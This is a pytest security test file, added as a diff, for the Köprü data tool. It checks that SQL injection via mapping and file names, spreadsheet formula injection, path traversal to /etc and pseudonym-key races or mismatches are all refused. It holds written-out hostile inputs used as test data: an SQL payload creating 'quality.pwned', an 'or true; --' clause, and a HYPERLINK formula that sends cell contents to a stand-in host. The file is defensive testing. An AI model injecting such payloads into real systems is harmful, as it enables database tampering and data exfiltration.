@@ -1,0 +1,164 @@
+"""Attacks on Köprü's settings, paths, SQL and outputs, each played against the real thing: injection through an NGO
+mapping's name and the quality levels, formulas in XLSX outputs, paths outside the allowed folders, a pseudonym key
+raced into existence or swapped, and the operator's known failures as one sentence and a non-zero exit."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+HOSTILE_CODE = "x'); create table quality.pwned as select current_user; --"
+
+
+def kopru(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "kopru.cli", *args], capture_output=True, text=True,
+                          env={**os.environ, **(env or {})}, timeout=300)
+
+
+def test_an_ngo_mapping_named_with_sql_runs_no_sql(tmp_path, monkeypatch, db):
+    from kopru import config
+    from kopru.quality import gx
+
+    mappings = tmp_path / "mappings"
+    shutil.copytree(config.PACKAGE_DATA / "ngo_mappings", mappings)
+    hostile = (mappings / "kizilay_ilce.yml").read_text(encoding="utf-8").replace(
+        "ngo_code: kizilay_ilce", f'ngo_code: "{HOSTILE_CODE}"')
+    (mappings / f"{HOSTILE_CODE}.yml").write_text(hostile, encoding="utf-8")
+    monkeypatch.setenv("KOPRU_NGO_MAPPINGS", str(mappings))
+    gx.create_feed_views(db)
+    assert db.execute("select to_regclass('quality.pwned')").fetchone()[0] is None
+    (definition,) = db.execute("select pg_get_viewdef('quality.unpublished_rows__stk__ids')").fetchone()
+    assert "kizilay_ilce" in definition and "pwned" not in definition
+
+
+def test_a_file_named_with_sql_is_rejected_by_its_name(tmp_path, warehouse_url):
+    from support import land_file
+
+    result, _, _ = land_file(tmp_path, f"stk_{HOSTILE_CODE}_202401.csv", b"a;b\n1;2\n")
+    assert (result.status, result.reason_code) == ("rejected", "bad_file_name")
+
+
+def test_quality_levels_cannot_name_sql_as_a_feed():
+    from kopru.quality import gx
+
+    with pytest.raises(ValueError, match="volume_checked_feeds names feeds the contract does not have"):
+        gx._volume_query((("belediye", "aid') or true; --"),))
+    assert "('belediye', 'aid')" in gx._volume_query((("belediye", "aid"),))
+
+
+def test_no_text_in_an_xlsx_output_becomes_a_formula(tmp_path):
+    from kopru.reports import xlsx
+    from openpyxl import Workbook, load_workbook
+
+    attack = '=HYPERLINK("http://example.invalid/?"&A2,"Ayrıntı")'
+    book = Workbook()
+    book.active.append(["Mahalle", "Ret nedeni", "Aile"])
+    book.active.append([attack, "=1+1", 12])
+    xlsx.save(book, tmp_path / "out.xlsx")
+    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    cells = {cell.value: cell.data_type for row in load_workbook(tmp_path / "out.xlsx").active for cell in row}
+    assert cells[attack] == "s" and cells["=1+1"] == "s" and cells[12] == "n"
+    assert (tmp_path / "out.xlsx").stat().st_mode & 0o777 == 0o600
+    # Every workbook the reports write goes through that save.
+    reports = Path(__file__).parents[1] / "plugins/kopru/reports"
+    savers = [p.name for p in reports.glob("*.py") if re.search(r"(?<!xlsx)\.save\(", p.read_text())
+              and p.name != "xlsx.py"]
+    assert savers == []
+
+
+@pytest.mark.parametrize("out", ["/etc/kopru", "{home}/../../../etc", "{home}/outputs/../../elsewhere"])
+def test_a_report_folder_outside_the_allowed_roots_is_refused(out, kopru_home, warehouse_url):
+    from kopru import config
+    from kopru.orchestration import write_due_reports
+
+    target = out.format(home=kopru_home)
+    done = kopru("report", "--period", "2024", "--out", target, env={"KOPRU_ALLOWED_PATHS": ""})
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert done.stderr.startswith(f"kopru: the report folder {target!r} is outside the folders Köprü may use")
+    os.environ["KOPRU_ALLOWED_PATHS"], saved = "", os.environ.get("KOPRU_ALLOWED_PATHS", "")
+    try:
+        with pytest.raises(config.PathNotAllowed):
+            write_due_reports("2024", target)  # the reports DAG's params take this path
+    finally:
+        os.environ["KOPRU_ALLOWED_PATHS"] = saved
+    assert not Path("/etc/kopru").exists()
+
+
+def test_an_inbox_param_outside_the_allowed_roots_is_refused(warehouse_url):
+    from kopru import config
+    from kopru.orchestration import ingest_family
+
+    with pytest.raises(config.PathNotAllowed, match="the inbox '/etc' is outside"):
+        ingest_family("belediye", "/etc")
+
+
+@pytest.mark.parametrize(("args", "sentence"), [
+    (["report", "--period", "2024-H3"], "'2024-H3' is not a period"),
+    (["report", "--period", "2024-H1\n"], "is not a period"),
+    (["ingest", "--inbox", "{home}/no-such-inbox"], "does not exist or is not a folder"),
+    (["run", "--inbox", "{home}/no-such-inbox"], "does not exist or is not a folder"),
+])
+def test_known_failures_are_one_sentence_and_a_non_zero_exit(args, sentence, kopru_home):
+    done = kopru(*(a.format(home=kopru_home) for a in args))
+    assert done.returncode == 2 and sentence in done.stderr and "Traceback" not in done.stderr
+
+
+def test_a_warehouse_that_never_ran_or_has_published_nothing_is_one_sentence(tmp_path, warehouse_url):
+    home = tmp_path / "fresh_home"
+    done = kopru("report", "--period", "2024-H1", env={"KOPRU_HOME": str(home)})
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert "was never started: run `kopru warehouse start`" in done.stderr
+    from kopru import warehouse
+
+    with warehouse.scratch_database("kopru_nothing_published", warehouse_url) as url:
+        done = kopru("report", "--period", "2024-H1", env={"KOPRU_WAREHOUSE_URL": url})
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert "kopru: the warehouse has no published marts to read yet" in done.stderr
+
+
+def test_the_pseudonym_key_is_one_and_never_empty_when_processes_race_to_create_it(tmp_path):
+    program = "from kopru import config; print(config.pseudonym_key().decode())"
+    env = {k: v for k, v in os.environ.items() if k != "KOPRU_PSEUDONYM_KEY"}
+    keys_by_home = {}
+    for index in range(25):
+        home = tmp_path / f"home{index}"
+        racers = [subprocess.Popen([sys.executable, "-c", program], env={**env, "KOPRU_HOME": str(home)},
+                                   stdout=subprocess.PIPE, text=True) for _ in range(4)]
+        keys_by_home[home] = {racer.communicate(timeout=60)[0].strip() for racer in racers}
+    assert all(len(keys) == 1 and "" not in keys for keys in keys_by_home.values()), keys_by_home
+    assert all((home / "secrets/pseudonym_key").read_text() in keys for home, keys in keys_by_home.items())
+    assert not [p for home in keys_by_home for p in (home / "secrets").iterdir() if p.name.startswith(".")]
+
+
+def test_a_run_with_another_pseudonym_key_refuses_to_load(tmp_path, warehouse_url, monkeypatch):
+    from kopru import warehouse
+    from kopru.ingest.loader import ingest_inbox
+    from kopru.ingest.manifest import PseudonymKeyMismatch
+
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    (inbox / "belediye_surveys_20240105.csv").write_text(
+        "response_id,survey_wave,responded_on,household_id,channel,q_satisfaction,q_fairness,comment\n"
+        "R1,2024-H1,2024-01-04,,telefon,5,4,\n", encoding="utf-8")
+    with warehouse.scratch_database("kopru_key_fingerprint", warehouse_url) as url:
+        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "the-warehouse-key")
+        assert [r.status for r in ingest_inbox(inbox)] == ["loaded"]
+        (inbox / "belediye_surveys_20240106.csv").write_bytes(
+            (inbox / "belediye_surveys_20240105.csv").read_bytes().replace(b"R1,", b"R2,"))
+        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "another-key")
+        with pytest.raises(PseudonymKeyMismatch, match="not the one this warehouse was loaded with"):
+            ingest_inbox(inbox)
+        done = kopru("ingest", "--inbox", str(inbox), env={"KOPRU_WAREHOUSE_URL": url})
+        assert done.returncode == 2 and "Traceback" not in done.stderr and "nothing was loaded" in done.stderr
+        with warehouse.connect() as conn:
+            assert conn.execute("select count(*) from ingest.files").fetchone()[0] == 1
+        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "the-warehouse-key")
+        assert [r.status for r in ingest_inbox(inbox)] == ["duplicate_file", "loaded"]
